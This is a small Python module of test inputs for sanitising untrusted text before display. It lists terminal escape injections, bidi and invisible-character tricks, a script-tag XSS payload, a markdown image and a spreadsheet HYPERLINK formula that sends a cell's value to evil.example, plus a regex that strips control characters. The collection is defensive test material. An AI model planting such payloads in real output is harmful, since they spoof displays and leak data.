"""Words that try to do something to whoever shows them."""

import re

#: What would clear a screen, retitle a window, plant a link, ring, go back, turn and hide text.
HOSTILE = {
    "clear the screen": "\x1b[2J\x1b[H all is well",
    "retitle the window": "\x1b]0;owned\x07",
    "a link elsewhere": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "one byte escapes": "\x9b2J\x9d0;owned\x9c",
    "back and over it": "down\r\x08\x08\x08\x08up",
    "right to left": "\u202epu si ti\u202c\u2066x\u2069\u200f",
    "other lines": "one\n\n● acme/large up\u2028\x85\x0bmore",
    "unseen letters": "\U000e0041\ufeff\u200b\xad",
    "half a character": "\ud83d",
    "markup": "[red]<script>alert(1)</script>[/red] [link=x]",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "a table": "| a | `b` | ![x](http://evil.example/x.png)",
    "a megabyte": "\x1b[31mx" * (1 << 17),
}

#: Nothing of this may reach a terminal from a stranger.
COMMANDS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
